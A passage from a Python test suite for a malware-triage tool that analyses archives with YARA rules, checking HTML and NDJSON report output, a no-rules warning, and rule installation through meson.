        page = kt.run('analyze', '--format', 'html', fixture(name))[1].decode()
        why = page.index('<section id="why">')
        assert why < page.index('id="container"') and why < page.index('id="findings"'), name
        sec = page[why:page.index('</section>', why)]
        assert ('Why %s' % r['verdict']) in sec and rule in sec, sec
        crit = [f['id'] for f in r['findings'] if f['severity'] == 'critical']
        eq(re.findall(r'<code>(KCSI-[^<]+)</code>', sec), crit, 'the deciding findings (%s)' % name)


def test_ndjson_lines():
    """analyze had no line-per-record output for jq and SIEMs: --format
    ndjson gives a report line, then a line per finding, then per IOC, the
    same objects as the JSON report's."""
    env = {'SOURCE_DATE_EPOCH': '1700000000'}
    whole = json.loads(kt.run('analyze', '--format', 'json', fixture('perlbot'), env=env)[1])
    lines = [json.loads(l) for l in kt.run('analyze', '--format', 'ndjson', fixture('perlbot'),
                                           env=env)[1].decode().splitlines()]
    eq(lines[0]['record'], 'report', 'first line')
    eq((lines[0]['verdict'], lines[0]['archive_sha256']), (whole['verdict'], whole['archive_sha256']), 'report line')
    rest = [dict(l) for l in lines[1:]]
    for l in rest:
        l.pop('record')
    eq(rest, whole['findings'] + whole['iocs'], 'findings, then IOCs')
    eq([l['record'] for l in lines[1:]], ['finding'] * len(whole['findings']) + ['ioc'] * len(whole['iocs']), 'kinds')


def test_no_rules_loaded_is_a_warning():
    """With no YARA rule loaded analyze said nothing: a YARA-less triage
    looked like a clean one.  It warns on stderr and in every report."""
    rc, out, err = kt.run('analyze', '--format', 'json', '--no-builtin-rules', fixture('counter'))
    assert 'warning: no YARA rules were loaded' in err, err
    assert any('no YARA rules' in w for w in json.loads(out)['warnings']), out[:300]
    eq(json.loads(out)['ruleset'], {'version': None, 'sha256': None, 'rules': 0}, 'no rule set')
    for fmt in ('text', 'html', 'misp'):
        assert b'no YARA rules were loaded' in kt.run('analyze', '--format', fmt, '--no-builtin-rules',
                                                      fixture('counter'))[1], fmt
    _, _, err = kt.run('analyze', '--format', 'json', fixture('counter'))
    assert 'warning' not in err, err


def test_installed_rules_are_found():
    """The YARA rules were not installed: an installed kcsi ran without them.
    `meson install` puts them in share/kcsi/rules, where the installed binary
    finds them ($KCSI_RULES unset, no rules/ beside it)."""
    meson = shutil.which('meson')
    if not meson:
        raise kt.Skip('meson not installed')
    build = os.path.dirname(os.path.abspath(kt.KCSI))
    dest = os.path.join(kt.tmpdir(), 'ioc-install')
    shutil.rmtree(dest, ignore_errors=True)
    p = subprocess.run([meson, 'install', '-C', build, '--destdir', dest, '--quiet', '--no-rebuild'],
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=600)
    eq(p.returncode, 0, p.stdout.decode()[-2000:])
    kcsi = [os.path.join(d, f) for d, _, fs in os.walk(dest) for f in fs if f == 'kcsi' and '/bin' in d]
    rules = [d for d, _, fs in os.walk(dest) if d.endswith('share/kcsi/rules') and 'kcsi.yar' in fs]
    assert kcsi and rules, (kcsi, rules)
    eq(sorted(os.listdir(rules[0])), sorted(f for f in os.listdir(os.path.join(kt.ROOT, 'rules'))
                                           if f.endswith('.yar') or f == 'VERSION'), 'installed rule files')
    env = dict(os.environ)
    env.pop('KCSI_RULES', None)
    p = subprocess.run([kcsi[0], 'analyze', '--format', 'json', fixture('perlbot')], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, env=env, cwd=kt.tmpdir(), timeout=300)
    eq(p.returncode, 0, p.stderr.decode())
    r = json.loads(p.stdout)
    assert r['ruleset']['rules'] > 0 and 'warning' not in p.stderr.decode(), (r['ruleset'], p.stderr)
    eq(r['ruleset']['version'], open(os.path.join(kt.ROOT, 'rules', 'VERSION')).read().strip(), 'rule set')
    assert any(f['id'].startswith('KCSI-YARA-') for f in r['findings']), [f['id'] for f in r['findings']]
